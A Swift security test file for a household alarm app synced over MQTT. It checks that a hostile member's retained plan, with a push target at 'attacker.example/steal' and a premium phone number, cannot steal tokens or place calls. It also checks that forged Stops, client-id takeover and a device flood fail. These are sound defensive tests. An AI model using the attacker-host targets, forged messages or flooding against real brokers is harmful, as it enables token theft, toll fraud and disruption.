import DoseTapAgent
import DoseTapApp
import DoseTapCore
import DoseTapLinux
import DoseTapStore
import DoseTapTesting
import Foundation
import Testing

/// Issue #25 against a real mosquitto on loopback with a user per device and the ACL of docs/household.md:
/// a member's own plan cannot spend another device's money or leak its token, a forged Stop silences
/// nothing, a `once` alarm has one occurrence.
extension HouseholdServiceTests {
    static let topicLevel = HouseholdTopic.slug("Jen's family")
    static let members = ["jen-laptop", "bedroom-pi", "kitchen", "garage"]

    /// A client of the broker with `user`'s password (garage: a member with no agent, run by someone hostile).
    func connectedClient(_ user: String, broker: PrivateBroker.Broker, will: Bool = false) async throws -> MQTTClient {
        let client = try MQTTClient(clientID: "\(user)-\(UUID().uuidString.prefix(6))", username: user, password: PrivateBroker.password(for: user),
                                    will: will ? .init(topic: HouseholdTopic.peer(device: user).topic(household: Self.topicLevel),
                                                       payload: HouseholdMessage.encode(PeerMessage.offline)) : nil)
        try await client.connect(host: "127.0.0.1", port: broker.port)
        return client
    }

    func occurrences(_ member: Member, owner: String) -> [OccurrenceKey] {
        ((try? HouseholdRepository(database: member.database).occurrences()) ?? []).map(\.key).filter { $0.owner == owner }
    }

    @Test("#25 finding 1: a member's retained plan naming an attacker's push and a premium number — no agent sends its push token off its host, nobody calls")
    func memberPlanTollFraud() async throws {
        try await PrivateBroker.run(users: Self.members, acl: PrivateBroker.householdACL(Self.topicLevel)) { broker in
            let h = try await household(broker, targets: ["device:bedroom-pi", "push:\(Self.push)"], users: true)
            let garage = try await connectedClient("garage", broker: broker, will: true)
            let now = Int64(h.clock.now().timeIntervalSince1970)
            let targets = [BackupTarget.push("http://attacker.example/steal"), .phone("+19005550100")]
            func publish(_ topic: HouseholdTopic, _ payload: [UInt8]) throws {
                try garage.publish(topic.topic(household: Self.topicLevel), payload, retain: true)
            }
            // In its own name, as the ACL allows: online, an occurrence two minutes ago, and one a minute ahead.
            try publish(.peer(device: "garage"), HouseholdMessage.encode(PeerMessage(online: now)))
            try publish(.plan(owner: "garage", alarmID: 1),
                        HouseholdMessage.encode(PlanMessage(label: "Wake", time: "04:48", occurrences: [now - 120], targets: targets)))
            try publish(.plan(owner: "garage", alarmID: 2),
                        HouseholdMessage.encode(PlanMessage(label: "Wake", time: "04:51", occurrences: [now + 60], targets: targets)))
            for member in h.all {
                try await until("\(member.name) to keep garage's plans") { occurrences(member, owner: "garage").count == 2 }
            }
            // Then it is "gone": its last will.
            garage.dropConnection()
            for member in h.all {
                try await until("\(member.name) to see garage gone") { member.service.peers["garage"] == false }
            }
            try await run(h, to: Self.at(-1))
            let requests = h.all.flatMap { $0.http.requests.withLock { $0 } }
            let stolen = requests.filter { $0.url.contains("attacker.example") && $0.headers["Authorization"] != nil }
            #expect(stolen.isEmpty, "a push token went to the attacker: \(stolen.map(\.url))")
            let calls = requests.filter { $0.url.hasSuffix("/Calls.json") }
            #expect(calls.isEmpty, "a call was placed for garage's plan: \(calls.map { String(decoding: $0.body, as: UTF8.self) })")
            let late = requests.filter { $0.url.contains("attacker.example") && $0.url.hasSuffix("/steal") && $0.body.count > 0 }
            // The occurrence planned after it had passed is never acted on (at most the one planned ahead pushes, without a token).
            #expect(late.count <= 1, "pushes for garage: \(late.count)")
            stopAll(h)
        }
    }

    /// #26 §5: anyone who may publish on the broker (here one without an ACL) can name new devices without end.
    @Test("a flood of 600 invented devices: each agent remembers at most peersKept; the owner, gone before the flood, is still known as gone")
    func peerFloodBounded() async throws {
        try await PrivateBroker.run { broker in
            let h = try await household(broker, targets: ["device:bedroom-pi"])
            h.owner.kill()
            try await until("the owner to be seen gone") { h.kitchen.service.peers["jen-laptop"] == false && h.bedroom.service.peers["jen-laptop"] == false }
            let stranger = try MQTTClient(clientID: "stranger", username: nil, password: nil, will: nil)
            try await stranger.connect(host: "127.0.0.1", port: broker.port)
            let now = Int64(h.clock.now().timeIntervalSince1970)
            for n in 0..<600 {
                try stranger.publish(HouseholdTopic.peer(device: "fake-\(n)").topic(household: Self.topicLevel),
                                     HouseholdMessage.encode(PeerMessage(online: now)), retain: false)
            }
            try await until("the flood to reach kitchen") { h.kitchen.service.peers["fake-599"] == true }
            for member in [h.bedroom, h.kitchen] {
                #expect(member.service.peers.count <= HouseholdService.peersKept)
                #expect(member.service.peers["jen-laptop"] == false, "\(member.name) forgot the departed owner")
            }
            stopAll(h)
        }
    }

    @Test("#25 finding 1: a push URL's user, password and query are never published; the owner still pushes to the whole URL")
    func pushSecretsNotPublished() async throws {
        try await PrivateBroker.run { broker in
            let secretURL = "http://jen:hunter2@127.0.0.1:9/jen?auth=tk_SECRET"
            let planTopic = HouseholdTopic.plan(owner: "jen-laptop", alarmID: 1).topic(household: Self.topicLevel)
            let observer = try await BrokerObserver(port: broker.port, name: "plans", subscriptions: [planTopic], clock: TimerFDScheduler.shared)
            let h = try await household(broker, targets: ["device:bedroom-pi", "push:\(secretURL)"])
            try await until("the plan on the broker") { observer.message(planTopic) != nil }
            let text = try #require(observer.last(planTopic))
            #expect(!text.contains("hunter2") && !text.contains("tk_SECRET") && !text.contains("jen:"), "published: \(text)")
            let plan = try JSONDecoder().decode(PlanMessage.self, from: Data(text.utf8))
            #expect(plan.targets == ["device:bedroom-pi", "push:http://127.0.0.1:9/jen"])
            try await run(h, to: Self.at(4.2))
            try await until("the owner to push") { h.owner.http.urls == [secretURL] }
            stopAll(h)
        }
    }

    @Test("#25 finding 2: a Stop forged by a member — for the coming occurrence, or in the owner's name while it rings — silences nothing")
    func forgedStopByMember() async throws {
        // The forger is a second client of kitchen's user beside kitchen's agent: with the client id bound to the user the
        // two would take the session from each other, so this test looks at the ACL alone (bindings: `clientIDTakeover`).
        try await PrivateBroker.run(users: Self.members, acl: PrivateBroker.householdACL(Self.topicLevel), bindClientIDs: false) { broker in
            let h = try await household(broker, targets: ["device:bedroom-pi", "device:kitchen"], users: true)
            let forger = try await connectedClient("kitchen", broker: broker)
            let t = key(0)
            func stop(_ topic: String, by: String, at: Int64) throws {
                try forger.publish("dosetap/\(Self.topicLevel)/\(topic)", HouseholdMessage.encode(AnswerMessage(by: by, at: at, target: nil)), retain: true)
            }
            // Ten minutes ahead: Stops of the coming occurrence, dated after it, in every name, on every topic tried.
            for by in ["jen-laptop", "bedroom-pi", "kitchen"] {
                try stop("answer/jen-laptop/1/\(t)/stop", by: by, at: t + 1)
                try stop("answer/kitchen/jen-laptop/1/\(t)/stop", by: by, at: t + 1)
                try stop("answer/\(by)/jen-laptop/1/\(t)/stop", by: by, at: t + 1)
            }
            try await run(h, to: Self.at(2))
            try await until("bedroom-pi to ring despite the Stops sent in advance") { h.bedroom.rang == [key(2)] }

            // While the owner's alarm rings: a Stop in the owner's name, now.
            let now = Int64(h.clock.now().timeIntervalSince1970)
            try stop("answer/jen-laptop/1/\(t)/stop", by: "jen-laptop", at: now)
            try stop("answer/kitchen/jen-laptop/1/\(t)/stop", by: "jen-laptop", at: now)
            // Messages of one publisher arrive in order: once this plan is kept, the forged Stops were handled.
            try forger.publish(HouseholdTopic.plan(owner: "kitchen", alarmID: 9).topic(household: Self.topicLevel),
                               HouseholdMessage.encode(PlanMessage(label: "Sync", time: "05:00", occurrences: [t + 86_400],
                                                                   targets: [.device("bedroom-pi")])), retain: false)
            for member in [h.owner, h.bedroom] {
                try await until("\(member.name) to handle the forged messages") { occurrences(member, owner: "kitchen").count == 1 }
            }
            #expect(h.owner.primaryStops.value.isEmpty, "the owner's alarm was stopped by a forged Stop")
            for member in h.all {
                let forged = ((try? HouseholdRepository(database: member.database).answers()) ?? []).filter { $0.kind == .stop }
                #expect(forged.isEmpty, "\(member.name) kept a forged Stop: \(forged)")
            }
            try await run(h, to: Self.at(4.1))
            #expect(h.kitchen.rang == [key(4)], "the cascade went on")
            forger.disconnect()
            stopAll(h)
        }
    }

    @Test("#51 finding 6: a member connecting with another device's client id does not take its session: no last will, the victim stays online")
    func clientIDTakeover() async throws {
        try await PrivateBroker.run(users: Self.members + ["observer"], acl: PrivateBroker.householdACL(Self.topicLevel)) { broker in
            let h = try await household(broker, targets: ["device:bedroom-pi"], users: true)
            // Everything said of bedroom-pi's presence from here on.
            let observer = try MQTTClient(clientID: "observer", username: "observer", password: PrivateBroker.password(for: "observer"))
            let heard = Locked<[String]>([])
            let listening = Task {
                for await message in observer.messages where message.topic.hasSuffix("/peer/bedroom-pi") {
                    heard.withLock { $0.append(String(decoding: message.payload, as: UTF8.self)) }
                }
            }
            defer { listening.cancel() }
            try await observer.connect(host: "127.0.0.1", port: broker.port)
            try observer.subscribe(HouseholdTopic.peer(device: "bedroom-pi").topic(household: Self.topicLevel))
            try await until("the observer to hear bedroom-pi's retained presence") { !heard.value.isEmpty }
            let before = heard.value.count
            // garage, a member, asks for bedroom-pi's client id (the agent's is the predictable dosetap-<device>), with a
            // will of its own, then says it is online.
            let thief = try MQTTClient(clientID: "dosetap-bedroom-pi", username: "garage", password: PrivateBroker.password(for: "garage"),
                                       will: .init(topic: HouseholdTopic.peer(device: "garage").topic(household: Self.topicLevel),
                                                   payload: HouseholdMessage.encode(PeerMessage.offline)))
            try await thief.connect(host: "127.0.0.1", port: broker.port)
            try thief.publish(HouseholdTopic.peer(device: "garage").topic(household: Self.topicLevel),
                              HouseholdMessage.encode(PeerMessage(online: Int64(h.clock.now().timeIntervalSince1970))), retain: true)
            try await until("the owner to hear garage online") { h.owner.service.peers["garage"] == true }
            // Time for a kicked client's will to travel (a loopback broker sends it at once), then the thief leaves rudely.
            try await Task.sleep(for: .milliseconds(500))
            thief.dropConnection()
            try await until("the owner to hear garage's will") { h.owner.service.peers["garage"] == false }
            let said = Array(heard.value.dropFirst(before))
            #expect(!said.contains { $0.contains("offline") }, "bedroom-pi's last will was published: \(said)")
            #expect(h.bedroom.client.isConnected)
            #expect(h.owner.service.peers["bedroom-pi"] == true && h.kitchen.service.peers["bedroom-pi"] == true)
            // The agents work under the binding: bedroom-pi still rings its slot.
            try await run(h, to: Self.at(2))
            try await until("bedroom-pi to ring") { h.bedroom.rang == [key(2)] }
            observer.disconnect()
            stopAll(h)
        }
    }

    @Test("#51 finding 7: a plan's occurrences past 8 days are not kept; `household forget` drops a removed member's plan and ignores it when heard again, until the device is heard online after that")
    func forgetRemovedMember() async throws {
        try await PrivateBroker.run(users: Self.members, acl: PrivateBroker.householdACL(Self.topicLevel)) { broker in
            let h = try await household(broker, targets: ["device:kitchen"], users: true)
            let garage = try await connectedClient("garage", broker: broker, will: true)
            let now = Int64(h.clock.now().timeIntervalSince1970)
            func plan(_ label: String) throws {
                try garage.publish(HouseholdTopic.plan(owner: "garage", alarmID: 1).topic(household: Self.topicLevel),
                                   HouseholdMessage.encode(PlanMessage(label: label, time: "04:55", occurrences: [now + 300, now + 9 * 86_400],
                                                                       targets: [.device("bedroom-pi")])), retain: true)
            }
            func labels(_ member: Member) -> [String] {
                ((try? HouseholdRepository(database: member.database).occurrences()) ?? []).filter { $0.key.owner == "garage" }.map(\.label)
            }
            try garage.publish(HouseholdTopic.peer(device: "garage").topic(household: Self.topicLevel),
                               HouseholdMessage.encode(PeerMessage(online: now)), retain: true)
            try plan("Wake")
            for member in h.all {
                try await until("\(member.name) to keep garage's plan") { labels(member) == ["Wake"] }
            }
            #expect(occurrences(h.bedroom, owner: "garage").map(\.at) == [now + 300], "the occurrence 9 days ahead is not kept")
            // garage leaves the household (its account is removed: it never comes back); bedroom-pi forgets it.
            garage.dropConnection()
            let forgot = try HouseholdUseCases(store: DataStore(database: h.bedroom.database), clock: h.clock).forget("garage", me: "bedroom-pi")
            #expect(forgot == .init(device: "garage", occurrences: 1, again: false))
            #expect(throws: UseCaseError.self) { try HouseholdUseCases(store: DataStore(database: h.bedroom.database), clock: h.clock).forget("bedroom-pi", me: "bedroom-pi") }
            #expect(throws: UseCaseError.self) { try HouseholdUseCases(store: DataStore(database: h.bedroom.database), clock: h.clock).forget("gar age", me: "bedroom-pi") }
            // Its retained plan heard again (a restart, a re-delivery): kitchen, which did not forget, keeps it; bedroom-pi ignores it.
            let again = try await connectedClient("garage", broker: broker)
            try again.publish(HouseholdTopic.plan(owner: "garage", alarmID: 1).topic(household: Self.topicLevel),
                              HouseholdMessage.encode(PlanMessage(label: "Again", time: "04:55", occurrences: [now + 300], targets: [.device("bedroom-pi")])),
                              retain: true)
            try await until("kitchen to keep the plan heard again") { labels(h.kitchen) == ["Again"] }
            try await until("owner to keep the plan heard again") { labels(h.owner) == ["Again"] }
            #expect(labels(h.bedroom).isEmpty, "a forgotten device's plan was kept")
            try await run(h, to: Date(timeIntervalSince1970: TimeInterval(now + 300 + 130)))
            #expect(h.bedroom.rang.isEmpty, "bedroom-pi rang for a forgotten device")
            // garage heard online after it was forgotten (its account was not removed after all): a member again.
            h.clock.advance(by: 5)
            try again.publish(HouseholdTopic.peer(device: "garage").topic(household: Self.topicLevel),
                              HouseholdMessage.encode(PeerMessage(online: Int64(h.clock.now().timeIntervalSince1970))), retain: true)
            try await until("bedroom-pi to remember garage") { ((try? HouseholdRepository(database: h.bedroom.database).forgotten()) ?? [:]).isEmpty }
            try again.publish(HouseholdTopic.plan(owner: "garage", alarmID: 1).topic(household: Self.topicLevel),
                              HouseholdMessage.encode(PlanMessage(label: "Back", time: "05:30", occurrences: [now + 3600], targets: [.device("bedroom-pi")])),
                              retain: true)
            try await until("bedroom-pi to keep garage's plan again") { labels(h.bedroom).contains("Back") }
            again.disconnect()
            stopAll(h)
        }
    }

    @Test("#51 finding 6: docs/household.md's broker binds client ids to users")
    func documentedClientIDBinding() throws {
        let docs = try String(contentsOf: Fixtures.packageRoot.appendingPathComponent("docs/household.md"), encoding: .utf8)
        #expect(docs.split(separator: "\n").contains { $0.trimmingCharacters(in: .whitespaces).hasPrefix("use_username_as_clientid true") })
    }

    @Test("#25: the ACL of docs/household.md is the one these tests give the broker")
    func documentedACL() throws {
        let docs = try String(contentsOf: Fixtures.packageRoot.appendingPathComponent("docs/household.md"), encoding: .utf8)
        let documented = docs.split(separator: "\n").map(String.init).filter { $0.hasPrefix("pattern ") }
        #expect(documented == PrivateBroker.householdACL("jen-s-family").split(separator: "\n").map(String.init))
    }

    @Test("#25 finding 10: a once alarm is planned for the household with exactly one occurrence")
    func onceAlarmOneOccurrence() async throws {
        try await PrivateBroker.run { broker in
            let h = try await household(broker, targets: ["device:bedroom-pi", "push:\(Self.push)"], repetition: "once")
            try await until("the owner to publish its plan") { occurrences(h.owner, owner: "jen-laptop").count >= 1 }
            for member in h.all {
                #expect(occurrences(member, owner: "jen-laptop").map(\.at) == [key(0)], "\(member.name): \(occurrences(member, owner: "jen-laptop"))")
            }
            stopAll(h)
        }
    }
}
